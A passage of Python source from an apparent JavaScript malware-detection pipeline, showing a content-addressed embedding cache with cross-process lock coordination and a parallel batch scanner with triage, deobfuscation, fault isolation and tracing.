layer under ``cache_dir/<fingerprint>/`` that survives across processes —
the second CLI run over the same corpus skips extraction entirely.
"""

from __future__ import annotations

import hashlib
import os
import tempfile
import time
from collections import OrderedDict
from dataclasses import dataclass
from pathlib import Path

from typing import TYPE_CHECKING

import numpy as np

if TYPE_CHECKING:  # pragma: no cover
    from repro.obs import MetricsRegistry


def content_key(source: str) -> str:
    """SHA-256 content address of one script."""
    return hashlib.sha256(source.encode("utf-8", errors="replace")).hexdigest()


#: On-disk archive layout version.  Stored inside every ``.npz``; a file
#: carrying any other version (or none) is treated as corrupt — miss,
#: counted, removed — rather than deserialized on faith.
CACHE_FORMAT_VERSION = 1


@dataclass
class CacheEntry:
    """Embedded paths for one script: the per-script pipeline prefix."""

    vectors: np.ndarray  # (n_kept, embed_dim) FC-layer outputs
    weights: np.ndarray  # (n_kept,) attention weights
    path_count: int  # contexts extracted before the per-script cap


class FeatureCache:
    """Two-layer (memory LRU + optional disk) embedding cache.

    Args:
        model_fingerprint: Namespace key; entries written under one
            fingerprint are invisible to every other (stale-model safety).
        max_entries: In-memory LRU capacity.
        cache_dir: Optional persistent layer root.  Layout is
            ``cache_dir/<fingerprint16>/<content_key>.npz``.
        metrics: Optional :class:`~repro.obs.MetricsRegistry`; when given,
            lookups and LRU evictions are mirrored into
            ``repro_cache_lookups_total{result=hit|miss}`` and
            ``repro_cache_evictions_total``.
    """

    def __init__(
        self,
        model_fingerprint: str,
        max_entries: int = 4096,
        cache_dir: str | Path | None = None,
        metrics: "MetricsRegistry | None" = None,
    ):
        if max_entries < 1:
            raise ValueError("max_entries must be positive")
        self.model_fingerprint = model_fingerprint
        self.max_entries = max_entries
        self._memory: OrderedDict[str, CacheEntry] = OrderedDict()
        self._disk_root: Path | None = None
        if cache_dir is not None:
            # First 16 hex chars keep directory names short; collisions over
            # 64 bits of a cryptographic hash are not a practical concern.
            self._disk_root = Path(cache_dir) / model_fingerprint[:16]
            self._disk_root.mkdir(parents=True, exist_ok=True)
        self.hits = 0
        self.misses = 0
        self.disk_hits = 0
        self.evictions = 0
        self.corrupt = 0
        self.flights_led = 0
        self.flights_followed = 0
        #: A leader that died mid-compute leaves its lock behind; locks
        #: older than this are broken and the key re-led.  Generous: the
        #: paper's worst-case per-script pipeline is ~1 s, so 30 s of age
        #: only ever means a dead process, not a slow one.
        self.flight_stale_s = 30.0
        self._m_hits = self._m_misses = self._m_evictions = self._m_corrupt = None
        self._m_flight_leader = self._m_flight_follower = None
        if metrics is not None:
            self._m_hits = metrics.counter(
                "repro_cache_lookups_total", "Embedding-cache lookups", labels={"result": "hit"}
            )
            self._m_misses = metrics.counter(
                "repro_cache_lookups_total", "Embedding-cache lookups", labels={"result": "miss"}
            )
            self._m_evictions = metrics.counter(
                "repro_cache_evictions_total", "In-memory LRU evictions"
            )
            self._m_corrupt = metrics.counter(
                "repro_cache_corrupt_total",
                "Disk-cache files rejected (truncated, bit-flipped, or wrong format version)",
            )
            self._m_flight_leader = metrics.counter(
                "repro_cache_singleflight_total",
                "Cross-process single-flight claims on the shared disk cache",
                labels={"role": "leader"},
            )
            self._m_flight_follower = metrics.counter(
                "repro_cache_singleflight_total",
                "Cross-process single-flight claims on the shared disk cache",
                labels={"role": "follower"},
            )

    def __len__(self) -> int:
        return len(self._memory)

    # ---------------------------------------------------------------- lookup

    def get(self, key: str) -> CacheEntry | None:
        entry = self._memory.get(key)
        if entry is not None:
            self._memory.move_to_end(key)
            self._record_hit()
            return entry
        entry = self._disk_get(key)
        if entry is not None:
            self._remember(key, entry)
            self._record_hit()
            self.disk_hits += 1
            return entry
        self.misses += 1
        if self._m_misses is not None:
            self._m_misses.inc()
        return None

    def _record_hit(self) -> None:
        self.hits += 1
        if self._m_hits is not None:
            self._m_hits.inc()

    def put(self, key: str, entry: CacheEntry) -> None:
        self._remember(key, entry)
        self._disk_put(key, entry)

    def _remember(self, key: str, entry: CacheEntry) -> None:
        self._memory[key] = entry
        self._memory.move_to_end(key)
        while len(self._memory) > self.max_entries:
            self._memory.popitem(last=False)
            self.evictions += 1
            if self._m_evictions is not None:
                self._m_evictions.inc()

    # ----------------------------------------------------------------- disk

    def _disk_path(self, key: str) -> Path | None:
        return self._disk_root / f"{key}.npz" if self._disk_root is not None else None

    def _disk_get(self, key: str) -> CacheEntry | None:
        path = self._disk_path(key)
        if path is None or not path.exists():
            return None
        try:
            with np.load(path) as arrays:
                if int(arrays["format_version"]) != CACHE_FORMAT_VERSION:
                    raise ValueError("cache format version mismatch")
                entry = CacheEntry(
                    vectors=np.asarray(arrays["vectors"], dtype=np.float64),
                    weights=np.asarray(arrays["weights"], dtype=np.float64),
                    path_count=int(arrays["path_count"]),
                )
            if entry.vectors.ndim != 2 or entry.weights.shape != (len(entry.vectors),):
                raise ValueError("cache entry shape mismatch")
            return entry
        except Exception:
            # Disk bytes are hostile input too: truncated writes, bit flips,
            # and stale formats must all decay to a counted miss (the slot
            # heals on the next put), never to a crash or a wrong verdict.
            self._record_corrupt(path)
            return None

    def _record_corrupt(self, path: Path) -> None:
        self.corrupt += 1
        if self._m_corrupt is not None:
            self._m_corrupt.inc()
        try:
            path.unlink()
        except OSError:
            pass

    def _disk_put(self, key: str, entry: CacheEntry) -> None:
        path = self._disk_path(key)
        if path is None:
            return
        # Write-then-rename keeps concurrent readers from ever seeing a
        # partially written archive.
        fd, tmp_name = tempfile.mkstemp(dir=str(self._disk_root), suffix=".tmp")
        try:
            with os.fdopen(fd, "wb") as handle:
                np.savez_compressed(
                    handle,
                    vectors=entry.vectors,
                    weights=entry.weights,
                    path_count=np.int64(entry.path_count),
                    format_version=np.int64(CACHE_FORMAT_VERSION),
                )
            os.replace(tmp_name, path)
        except OSError:
            try:
                os.unlink(tmp_name)
            except OSError:
                pass

    # ---------------------------------------------------------- single-flight
    #
    # Several cluster shards share one ``cache_dir``.  When the same
    # never-seen script is in flight on two shards at once (a batch fanned
    # out, or a retry after a shard death), only one of them should pay
    # for extraction + embedding.  The claim is a lock file next to the
    # entry (``<key>.lock``, created O_CREAT|O_EXCL — atomic on every
    # POSIX filesystem): whoever creates it is the **leader** and
    # computes; everyone else is a **follower** and polls for the entry
    # the leader will write.  Locks are advisory and self-healing — a
    # leader that died mid-compute is detected by lock age and replaced.

    def _flight_path(self, key: str) -> Path | None:
        return self._disk_root / f"{key}.lock" if self._disk_root is not None else None

    def acquire_flight(self, key: str) -> bool:
        """Claim one key; ``True`` → this process computes (leader).

        Without a disk layer there is nobody to share with, so every
        caller is trivially a leader and :meth:`release_flight` a no-op.
        """
        path = self._flight_path(key)
        if path is None:
            return True
        for _ in range(3):  # claim → stale-break → claim again
            try:
                fd = os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY)
            except FileExistsError:
                try:
                    age = time.time() - path.stat().st_mtime
                except OSError:
                    continue  # holder released between open and stat; re-claim
                if age > self.flight_stale_s:
                    try:
                        path.unlink()
                    except OSError:
                        pass
                    continue
                self.flights_followed += 1
                if self._m_flight_follower is not None:
                    self._m_flight_follower.inc()
                return False
            except OSError:
                return True  # unwritable cache dir: degrade to no coordination
            with os.fdopen(fd, "w") as handle:
                handle.write(str(os.getpid()))
            self.flights_led += 1
            if self._m_flight_leader is not None:
                self._m_flight_leader.inc()
            return True
        self.flights_followed += 1
        if self._m_flight_follower is not None:
            self._m_flight_follower.inc()
        return False

    def wait_flight(self, key: str, timeout_s: float = 10.0, poll_s: float = 0.02) -> CacheEntry | None:
        """Follower side: wait for the leader's entry (or its death).

        Returns the entry once the leader publishes it, or ``None`` if
        the leader released without publishing (it faulted) or the
        timeout lapses — either way the caller computes locally, which
        is always correct, just not deduplicated.
        """
        path = self._flight_path(key)
        if path is None:
            return None
        deadline = time.monotonic() + timeout_s
        while True:
            entry = self._disk_get(key)
            if entry is not None:
                self._remember(key, entry)
                return entry
            if not path.exists() or time.monotonic() >= deadline:
                return None
            time.sleep(poll_s)

    def release_flight(self, key: str) -> None:
        """Drop the leader's claim (after :meth:`put` — or on failure)."""
        path = self._flight_path(key)
        if path is not None:
            try:
                path.unlink()
            except OSError:
                pass

    # ----------------------------------------------------------------- stats

    def stats(self) -> dict[str, int]:
        return {
            "hits": self.hits,
            "misses": self.misses,
            "disk_hits": self.disk_hits,
            "evictions": self.evictions,
            "corrupt": self.corrupt,
            "flights_led": self.flights_led,
            "flights_followed": self.flights_followed,
            "entries": len(self._memory),
        }
