"""Parallel batch-scanning engine.

Per-script work (parse → enhanced AST → path contexts → embedding) is
CPU-bound and embarrassingly parallel, and Table VIII shows it dominates
detection cost; the shared stages (cluster-feature transform, forest
classification) are sub-millisecond and stay in-process.  The scanner
therefore:

1. consults the content-addressed :class:`~repro.pipeline.cache.FeatureCache`
   (embeddings are pure functions of source bytes + model parameters),
2. fans cache misses out over a ``multiprocessing`` pool whose workers hold
   a private copy of the extractor and the frozen embedding model,
3. keeps a bounded in-flight window (backpressure: at most
   ``queue_depth`` scripts are queued or awaiting collection at once, so
   huge corpora never balloon the parent's memory),
4. feeds the collected embeddings through the single-process feature
   transform + classifier and returns a structured
   :class:`~repro.pipeline.results.ScanReport`.

Determinism: workers run exactly the numpy operations of the sequential
path on identical inputs, so ``--workers 4`` output is byte-identical to
``--workers 1``.  Any failure to start or drive the pool degrades
gracefully to the sequential path.

Fault isolation: when :class:`~repro.faults.ScanLimits` are given, pending
scripts are dispatched through the supervised
:class:`~repro.faults.IsolatedPool` instead — each under a wall-clock
deadline and kernel rlimits — so a script that hangs, OOMs, or kills its
worker is quarantined and answered with a structured degraded verdict
while every other script in the batch gets its normal, byte-identical
result.  See DESIGN.md §9.
"""

from __future__ import annotations

import multiprocessing
import sys
import time
from collections import deque
from typing import TYPE_CHECKING

import numpy as np

from repro.faults import (
    FAULT_CAUSES,
    IsolatedPool,
    QuarantineEntry,
    QuarantineJournal,
    ScanLimits,
    Task,
    build_embed_init,
)
from repro.faults.workers import _top_attention_paths
from repro.obs.trace import SpanContext, new_span_id, trace_spans

from .cache import CacheEntry, FeatureCache, content_key
from .results import STAGE_KEYS, STATUS_OK, STATUS_PARSE_ERROR, ScanReport, ScanResult

if TYPE_CHECKING:  # pragma: no cover
    from repro.analysis import Analyzer
    from repro.core.detector import JSRevealer
    from repro.deobfuscate import Deobfuscator, NormalizationReport
    from repro.obs import MetricsRegistry, Span, Tracer

# ------------------------------------------------------------------ workers
#
# Each pool worker rebuilds the per-script pipeline prefix from the
# detector's configuration and frozen parameters (sent once via the pool
# initializer, so they survive spawn-based start methods too).

_WORKER_STATE: dict | None = None


def _init_worker(extractor_kwargs: dict, embed_dim: int, parameters: dict, max_paths: int) -> None:
    global _WORKER_STATE
    from repro.embedding import PathEmbedder
    from repro.paths import PathExtractor

    embedder = PathEmbedder(embed_dim=embed_dim)
    embedder.model.load_parameters(parameters)
    embedder._trained = True
    _WORKER_STATE = {
        "extractor": PathExtractor(**extractor_kwargs),
        "embedder": embedder,
        "max_paths": max_paths,
    }


def _embed_source(
    source: str, capture_paths: bool = False
) -> tuple[np.ndarray, np.ndarray, int, float, float, str, list | None]:
    """Extract + embed one script; mirrors ``JSRevealer`` stage semantics."""
    from repro.jsparser import JSSyntaxError
    from repro.paths import ExtractionError

    state = _WORKER_STATE
    status = STATUS_OK
    started = time.perf_counter()
    try:
        contexts = state["extractor"].extract_from_source(source)
    except (JSSyntaxError, ExtractionError, RecursionError):
        contexts = []
        status = STATUS_PARSE_ERROR
    extract_ms = 1000.0 * (time.perf_counter() - started)

    path_count = len(contexts)
    started = time.perf_counter()
    vectors, weights = state["embedder"].embed(contexts)
    if len(vectors) > state["max_paths"]:
        top = np.argsort(weights)[::-1][: state["max_paths"]]
        vectors, weights = vectors[top], weights[top]
        contexts = [contexts[int(i)] for i in top]
    embed_ms = 1000.0 * (time.perf_counter() - started)
    top_paths = _top_attention_paths(contexts, weights) if capture_paths else None
    return vectors, weights, path_count, extract_ms, embed_ms, status, top_paths


class BatchScanner:
    """Fan-out scanner over a fitted :class:`~repro.core.detector.JSRevealer`.

    Args:
        detector: A fitted detector (its embedder/extractor/classifier are
            the single source of truth; the scanner owns no model state).
        n_workers: Pool size; ``1`` selects the in-process sequential path.
        cache: Optional content-addressed embedding cache.  Callers are
            responsible for keying it to ``detector.fingerprint()`` —
            :meth:`JSRevealer.scan_batch` does this automatically.
        queue_depth: Bound on in-flight pool tasks (default
            ``4 × n_workers``).
        persistent: Keep the worker pool alive across :meth:`scan` calls.
            One-shot callers amortize pool startup over a single large
            batch, but a long-lived daemon scanning many micro-batches
            would otherwise pay fork + model-transfer on every flush.
            Call :meth:`close` (or use the scanner as a context manager)
            when done; a broken pool is discarded and rebuilt lazily.
        metrics: Optional :class:`~repro.obs.MetricsRegistry`; when given,
            each scan records batch size, script count, and per-stage
            latency histograms.
        triage: Optional :class:`~repro.analysis.Analyzer`.  When given,
            every script is statically analyzed first and the report is
            attached to its :class:`ScanResult`.  Scripts where a
            *decisive* rule fires are settled on the spot (malicious,
            probability 1.0) and skip extraction/embedding/classification
            entirely — the triage fast-path.  Non-decisive scripts flow
            through the full pipeline unchanged, so verdicts are identical
            to an untriaged scan for them.
        limits: Optional :class:`~repro.faults.ScanLimits`.  When any bound
            is set, pending scripts run in the fault-isolated worker pool:
            a script that overruns its deadline, trips the memory rlimit,
            or kills its worker comes back as a structured
            ``timeout``/``oom``/``crashed`` result (with a degraded
            triage-only verdict where the analyzer survives) instead of
            taking the batch down.
        quarantine: Optional :class:`~repro.faults.QuarantineJournal`;
            scripts that faulted once are never re-dispatched.  Defaults to
            a memory-only journal whenever ``limits`` are active.
        tracer: Optional :class:`~repro.obs.Tracer`.  When given, each
            :meth:`scan` call may open a ``scan.batch`` root span (subject
            to the tracer's sampling or the call's ``trace=`` override)
            with per-file stage spans, worker-side spans re-parented from
            the isolation layer, and verdict provenance attached to every
            :class:`ScanResult`.  ``None`` disables tracing entirely —
            verdicts and JSON output are byte-identical either way.
        deobfuscate: Optional :class:`~repro.deobfuscate.Deobfuscator`.
            When given, every source is normalized *before* triage,
            content keys, and embedding, so the whole pipeline sees the
            deobfuscated text.  Clean scripts come back verbatim (the
            normalizer's byte-identical no-op contract), keeping their
            verdicts and cache keys untouched; rewritten scripts carry a
            ``normalization`` report on their :class:`ScanResult` and a
            ``deobfuscate`` span when traced.
    """

    def __init__(
        self,
        detector: "JSRevealer",
        n_workers: int = 1,
        cache: FeatureCache | None = None,
        queue_depth: int | None = None,
        persistent: bool = False,
        metrics: "MetricsRegistry | None" = None,
        triage: "Analyzer | None" = None,
        limits: ScanLimits | None = None,
        quarantine: QuarantineJournal | None = None,
        tracer: "Tracer | None" = None,
        deobfuscate: "Deobfuscator | None" = None,
    ):
        if n_workers < 1:
            raise ValueError("n_workers must be positive")
        self.detector = detector
        self.n_workers = n_workers
        self.cache = cache
        self.queue_depth = queue_depth if queue_depth is not None else max(4 * n_workers, 8)
        self.persistent = persistent
        self._pool = None
        self.triage = triage
        if limits is not None:
            limits.validate()
        self.limits = limits
        self.isolated = limits is not None and limits.active
        if quarantine is None and self.isolated:
            quarantine = QuarantineJournal()
        self.quarantine = quarantine
        self._iso_pool: IsolatedPool | None = None
        self.tracer = tracer
        self.deobfuscate = deobfuscate
        self.metrics = metrics
        if metrics is not None:
            from repro.obs.metrics import DEFAULT_SIZE_BUCKETS

            self._m_batches = metrics.counter(
                "repro_scan_batches_total", "Batches dispatched through BatchScanner.scan"
            )
            self._m_scripts = metrics.counter(
                "repro_scan_scripts_total", "Scripts scanned across all batches"
            )
            self._m_batch_size = metrics.histogram(
                "repro_scan_batch_size_scripts",
                "Scripts per dispatched batch",
                buckets=DEFAULT_SIZE_BUCKETS,
            )
            self._m_stage = {
                stage: metrics.histogram(
                    "repro_scan_stage_seconds",
                    "Per-batch wall-clock cost of each pipeline stage",
                    labels={"stage": stage},
                )
                for stage in STAGE_KEYS
            }
            self._m_failures = {
                cause: metrics.counter(
                    "repro_scan_failures_total",
                    "Scripts that faulted their isolated worker, by cause",
                    labels={"cause": cause},
                )
                for cause in FAULT_CAUSES
            }
            self._m_dedup_batch = metrics.counter(
                "repro_scan_dedup_total",
                "In-flight duplicate scripts answered by one embedding",
                labels={"scope": "batch"},
            )
            self._m_dedup_cluster = metrics.counter(
                "repro_scan_dedup_total",
                "In-flight duplicate scripts answered by one embedding",
                labels={"scope": "cluster"},
            )

    # -------------------------------------------------------------- lifecycle

    def close(self) -> None:
        """Tear down the persistent worker pools, if any are running."""
        if self._pool is not None:
            self._pool.terminate()
            self._pool.join()
            self._pool = None
        self._close_iso_pool()

    def _ensure_iso_pool(self) -> IsolatedPool:
        if self._iso_pool is None:
            self._iso_pool = IsolatedPool(
                build_embed_init(self.detector), limits=self.limits, n_workers=self.n_workers
            )
        return self._iso_pool

    def _close_iso_pool(self) -> None:
        if self._iso_pool is not None:
            self._iso_pool.close()
            self._iso_pool = None

    def _count_failure(self, cause: str | None) -> None:
        if self.metrics is not None and cause in FAULT_CAUSES:
            self._m_failures[cause].inc()

    def __enter__(self) -> "BatchScanner":
        return self

    def __exit__(self, *exc) -> bool:
        self.close()
        return False

    # ------------------------------------------------------------------ scan

    def scan(
        self,
        sources: list[str],
        names: list[str] | None = None,
        threshold: float = 0.5,
        trace: bool | None = None,
        trace_parent: SpanContext | None = None,
    ) -> ScanReport:
        """Scan a batch; see the class docstring for the moving parts.

        Args:
            trace: ``True`` forces this batch to be traced, ``False``
                forces it off, ``None`` (default) defers to the tracer's
                sampling (never traced without a tracer).
            trace_parent: Propagated :class:`SpanContext` to parent the
                batch root span under (e.g. from an inbound
                ``traceparent`` header).
        """
        detector = self.detector
        if not detector._fitted:
            raise RuntimeError("JSRevealer used before fit()")
        started = time.perf_counter()
        n = len(sources)
        if names is None:
            names = [f"<script:{i}>" for i in range(n)]
        if len(names) != n:
            raise ValueError("names and sources length mismatch")

        root: "Span | None" = None
        if self.tracer is not None and trace is not False:
            candidate = self.tracer.start_trace(
                "scan.batch",
                parent=trace_parent,
                attributes={"n_scripts": n, "n_workers": self.n_workers, "isolated": self.isolated},
                force=trace,
            )
            if candidate.recording:
                root = candidate  # type: ignore[assignment]
        recording = root is not None
        #: Pre-generated per-file span ids: workers parent their spans to
        #: these before the file span itself is synthesized (at the end,
        #: once its total cost and outcome are known).
        file_span_ids: list[str] | None = [new_span_id() for _ in range(n)] if recording else None
        top_paths: list[list | None] = [None] * n
        worker_spans: list[list | None] = [None] * n

        entries: list[CacheEntry | None] = [None] * n
        hit_flags = [False] * n
        per_file_ms: list[dict[str, float]] = [
            {"path_extraction": 0.0, "embedding": 0.0} for _ in range(n)
        ]
        statuses: list[str] = [STATUS_OK] * n
        fault_info: list[dict | None] = [None] * n

        # Deobfuscation pre-pass: rewrite sources *before* triage and
        # content keys, so rules, cache, dedup, and embedding all see the
        # normalized text (two obfuscated variants of one payload even
        # dedup to one embedding).  Clean scripts come back verbatim —
        # the normalizer's byte-identical no-op contract — so enabling
        # the pass cannot perturb their verdicts or cache keys.
        norm_reports: "list[NormalizationReport | None]" = [None] * n
        deob_ms: float | None = None
        raw_sources = sources  # pre-normalization text (directives live here)
        if self.deobfuscate is not None:
            deob_started = time.perf_counter()
            normalized_sources: list[str] = []
            for i, source in enumerate(sources):
                normalized, norm_report = self.deobfuscate.normalize(source, name=str(names[i]))
                normalized_sources.append(normalized)
                norm_reports[i] = norm_report
                if norm_report.interesting:
                    per_file_ms[i]["deobfuscate"] = norm_report.elapsed_ms
            sources = normalized_sources
            deob_ms = 1000.0 * (time.perf_counter() - deob_started)

        # Triage fast-path: analyze first; decisive hits never reach the
        # embedding pipeline (or the cache — no features were computed).
        analyses: list = [None] * n
        triaged = [False] * n
        if self.triage is not None:
            for i, source in enumerate(sources):
                # When the pre-pass rewrote this script, analysis runs over
                # the normalized text; the line map lets findings (and taint
                # witness hops) report spans in the submitted original too.
                norm = norm_reports[i]
                line_map = norm.line_map if norm is not None and norm.changed else None
                analysis = self.triage.analyze(
                    source,
                    name=str(names[i]),
                    line_map=line_map,
                    raw_source=raw_sources[i] if line_map is not None else None,
                )
                analyses[i] = analysis
                per_file_ms[i]["analysis"] = analysis.elapsed_ms
                triaged[i] = analysis.decisive

        keys: list[str | None] = [None] * n
        pending: list[int] = []
        want_keys = self.cache is not None or self.isolated
        for i, source in enumerate(sources):
            if triaged[i]:
                continue
            if want_keys:
                keys[i] = content_key(source)
            if self.cache is not None:
                entry = self.cache.get(keys[i])
                if entry is not None:
                    entries[i] = entry
                    hit_flags[i] = True
                    continue
            pending.append(i)
        misses = len(pending)

        # In-batch single-flight: identical sources in one batch (the same
        # CDN script submitted by many clients, coalesced into one
        # micro-batch) are embedded once; duplicates copy the primary's
        # outcome after the embed phase.
        dup_of: dict[int, int] = {}
        if pending and want_keys:
            primary_by_key: dict[str, int] = {}
            unique_pending: list[int] = []
            for i in pending:
                first = primary_by_key.setdefault(keys[i], i)
                if first == i:
                    unique_pending.append(i)
                else:
                    dup_of[i] = first
            if dup_of:
                pending = unique_pending
                if self.metrics is not None:
                    self._m_dedup_batch.inc(len(dup_of))

        # Cross-process single-flight on the shared disk cache: claim every
        # remaining miss; a key some other process is already computing is
        # *followed* (its entry awaited after our own embeds are published)
        # rather than recomputed.  Isolated mode opts out — a follower
        # fallback would re-run a possibly poisonous script outside the
        # sandbox.
        flight_led: list[int] = []
        flight_following: list[int] = []
        if pending and self.cache is not None and not self.isolated:
            claimed: list[int] = []
            for i in pending:
                if self.cache.acquire_flight(keys[i]):
                    flight_led.append(i)
                    claimed.append(i)
                else:
                    flight_following.append(i)
            pending = claimed

        # Known poison never gets a second chance to burn a worker: journal
        # hits go straight to the degraded-verdict path.
        faulted: list[int] = []
        if self.isolated and self.quarantine is not None and pending:
            still_pending: list[int] = []
            for i in pending:
                known = self.quarantine.lookup(keys[i])
                if known is None:
                    still_pending.append(i)
                    continue
                statuses[i] = known.cause
                fault_info[i] = {
                    "cause": known.cause,
                    "detail": known.detail,
                    "stage": known.stage,
                    "rusage": known.rusage,
                    "quarantined": True,
                    "known": True,
                }
                faulted.append(i)
                self._count_failure(known.cause)
            pending = still_pending

        workers_used = 1
        if self.isolated:
            workers_used = self.n_workers
            try:
                self._embed_isolated(
                    pending, sources, names, keys, entries, per_file_ms, statuses, fault_info,
                    faulted, root=root, file_span_ids=file_span_ids,
                    worker_spans=worker_spans, top_paths=top_paths,
                )
                self._degraded_analyses(
                    faulted, sources, names, analyses, per_file_ms,
                    norm_reports=norm_reports, raw_sources=raw_sources,
                    root=root, file_span_ids=file_span_ids, worker_spans=worker_spans,
                )
            except Exception as error:  # pool bootstrap failure, not a task fault
                self._close_iso_pool()
                print(
                    f"warning: isolated pool failed ({error!r}); scanning sequentially",
                    file=sys.stderr,
                )
                workers_used = 1
            finally:
                if not self.persistent:
                    self._close_iso_pool()
        elif self.n_workers > 1 and len(pending) > 1:
            try:
                self._embed_parallel(
                    pending, sources, entries, per_file_ms, statuses,
                    capture_paths=recording, top_paths=top_paths,
                )
                workers_used = self.n_workers
            except Exception as error:  # pool start/transport failure
                print(
                    f"warning: worker pool failed ({error!r}); scanning sequentially",
                    file=sys.stderr,
                )
        for i in pending:  # sequential path + parallel-failure backstop
            if entries[i] is not None or statuses[i] in FAULT_CAUSES:
                continue
            entries[i], statuses[i], top_paths[i] = self._embed_sequential(
                sources[i], per_file_ms[i], capture_paths=recording
            )
        if self.cache is not None:
            for i in pending:
                # Only clean embeddings are cached: a parse_error entry would
                # come back from the cache without its status, and faulted
                # scripts never produced one.
                if entries[i] is not None and statuses[i] == STATUS_OK:
                    self.cache.put(keys[i], entries[i])
            for i in flight_led:
                self.cache.release_flight(keys[i])
            # Followers: some other process was computing this key when we
            # claimed; by now it has usually published.  If it died without
            # publishing, compute locally — correct, just not deduplicated.
            for i in flight_following:
                entry = self.cache.wait_flight(keys[i])
                if entry is not None:
                    entries[i] = entry
                    hit_flags[i] = True
                    if self.metrics is not None:
                        self._m_dedup_cluster.inc()
                    continue
                entries[i], statuses[i], top_paths[i] = self._embed_sequential(
                    sources[i], per_file_ms[i], capture_paths=recording
                )
                if entries[i] is not None and statuses[i] == STATUS_OK:
                    self.cache.put(keys[i], entries[i])

        # In-batch duplicates copy their primary's outcome wholesale (the
        # classifier still runs per script, so results stay per-file).
        for i, primary in dup_of.items():
            entries[i] = entries[primary]
            statuses[i] = statuses[primary]
            fault_info[i] = fault_info[primary]
            top_paths[i] = top_paths[primary]
            if analyses[i] is None:
                analyses[i] = analyses[primary]

        active = [i for i in range(n) if not triaged[i] and entries[i] is not None]
        embedded = [(entries[i].vectors, entries[i].weights) for i in active]
        transform_started = time.perf_counter()
        with detector._timed("feature_transform"):
            X = detector.feature_extractor.transform(embedded, fit_scaler=False)
        transform_ms = 1000.0 * (time.perf_counter() - transform_started)

        classify_started = time.perf_counter()
        if active:
            with detector._timed("classifying"):
                labels = np.asarray(detector.classifier.predict(X))
                active_proba = (
                    np.asarray(detector.classifier.predict_proba(X))
                    if hasattr(detector.classifier, "predict_proba")
                    else None
                )
        else:
            labels = np.zeros(0, dtype=int)
            active_proba = np.zeros((0, 2))
        classify_ms = 1000.0 * (time.perf_counter() - classify_started)
        if recording:
            root.synthesize(
                "feature_transform", transform_ms, attributes={"n_scripts": len(active)}
            )
            root.synthesize("classify", classify_ms, attributes={"n_scripts": len(active)})

        results = []
        position = {i: j for j, i in enumerate(active)}
        has_proba = (
            active_proba is not None and active_proba.ndim == 2 and active_proba.shape[1] >= 2
        )
        trace_envelopes: list[dict | None] = [None] * n
        if recording:
            for i in range(n):
                trace_envelopes[i] = self._file_trace(
                    root, file_span_ids[i], i, names, statuses, hit_flags, triaged,
                    per_file_ms, fault_info, worker_spans, entries, analyses, top_paths,
                    position, X if len(active) else None, norm_reports,
                )
        degraded_flags = [False] * n
        for i in range(n):
            if triaged[i]:
                label, probability = 1, 1.0
            elif i in position:
                j = position[i]
                label = int(labels[j]) if j < len(labels) else 0
                probability = float(active_proba[j, 1]) if has_proba else float(label)
            else:
                # Faulted script: fall back to the triage-only rule verdict
                # when the analyzer survived it; otherwise answer "unknown"
                # (benign, probability 0) rather than invent confidence.
                analysis = analyses[i]
                if analysis is not None:
                    probability = 1.0 if analysis.decisive else float(analysis.score)
                    label = int(probability >= 0.5)
                    degraded_flags[i] = True
                else:
                    label, probability = 0, 0.0
            results.append(
                ScanResult(
                    path=str(names[i]),
                    label=label,
                    probability=probability,
                    malicious=bool(probability >= threshold),
                    path_count=entries[i].path_count if entries[i] is not None else 0,
                    cache_hit=hit_flags[i],
                    stage_ms={k: round(v, 3) for k, v in per_file_ms[i].items()},
                    triaged=triaged[i],
                    analysis=analyses[i].to_dict() if analyses[i] is not None else None,
                    status=statuses[i],
                    degraded=degraded_flags[i],
                    fault=fault_info[i],
                    trace=trace_envelopes[i],
                    normalization=(
                        norm_reports[i].to_dict()
                        if norm_reports[i] is not None and norm_reports[i].interesting
                        else None
                    ),
                )
            )

        # Full-batch probability matrix: classifier rows for active files; a
        # settled [1-p, p] row for every other verdict (triage hits carry
        # [0, 1], faulted scripts their degraded probability).
        proba_matrix: np.ndarray | None = None
        if has_proba:
            proba_matrix = np.zeros((n, max(active_proba.shape[1], 2)))
            for j, i in enumerate(active):
                proba_matrix[i, : active_proba.shape[1]] = active_proba[j]
            for i, result in enumerate(results):
                if i not in position:
                    proba_matrix[i, 0] = 1.0 - result.probability
                    proba_matrix[i, 1] = result.probability

        analysis_total_ms = sum(ms.get("analysis", 0.0) for ms in per_file_ms)
        stage_totals = {
            "path_extraction": sum(ms["path_extraction"] for ms in per_file_ms),
            "embedding": sum(ms["embedding"] for ms in per_file_ms),
            "feature_transform": transform_ms,
            "classifying": classify_ms,
        }
        if self.triage is not None or analysis_total_ms:
            stage_totals["analysis"] = analysis_total_ms
        if deob_ms is not None:
            stage_totals["deobfuscate"] = deob_ms
        report = ScanReport(
            results=results,
            threshold=threshold,
            n_workers=self.n_workers,
            workers_used=workers_used,
            elapsed_ms=1000.0 * (time.perf_counter() - started),
            stage_ms={k: round(v, 3) for k, v in stage_totals.items()},
            cache_hits=sum(hit_flags),
            cache_misses=misses,
            triage_hits=sum(triaged),
            fault_count=sum(1 for result in results if result.faulted),
            cache_stats=self.cache.stats() if self.cache is not None else None,
            model_fingerprint=detector.fingerprint(),
            probability_matrix=proba_matrix,
        )
        if recording:
            root.set_attribute("cache_hits", report.cache_hits)
            root.set_attribute("cache_misses", report.cache_misses)
            root.set_attribute("triage_hits", report.triage_hits)
            root.set_attribute("fault_count", report.fault_count)
            if report.fault_count:
                root.set_status("error", f"{report.fault_count} scripts faulted")
            root.end()
            report.trace = {
                "trace_id": root.trace_id,
                "root_span_id": root.span_id,
                "spans": trace_spans(root),
            }
        if self.metrics is not None:
            self._m_batches.inc()
            self._m_scripts.inc(n)
            self._m_batch_size.observe(n)
            for stage, ms in stage_totals.items():
                self._m_stage[stage].observe(ms / 1000.0)
        return report

    # --------------------------------------------------------------- tracing

    def _file_trace(
        self,
        root: "Span",
        span_id: str,
        i: int,
        names: list[str],
        statuses: list[str],
        hit_flags: list[bool],
        triaged: list[bool],
        per_file_ms: list[dict[str, float]],
        fault_info: list[dict | None],
        worker_spans: list[list | None],
        entries: list[CacheEntry | None],
        analyses: list,
        top_paths: list[list | None],
        position: dict[int, int],
        X: np.ndarray | None,
        norm_reports: "list[NormalizationReport | None]",
    ) -> dict:
        """One file's trace envelope: span subtree + verdict provenance.

        The per-file span is synthesized (its id was pre-generated so
        worker spans could parent to it before it existed); its children
        are either real worker spans shipped back across the process
        boundary, or stage spans reconstructed from the measured per-file
        timings, or — for a script that killed its worker — a terminal
        span synthesized from the fault classification.
        """
        from repro.obs.trace import span_tree

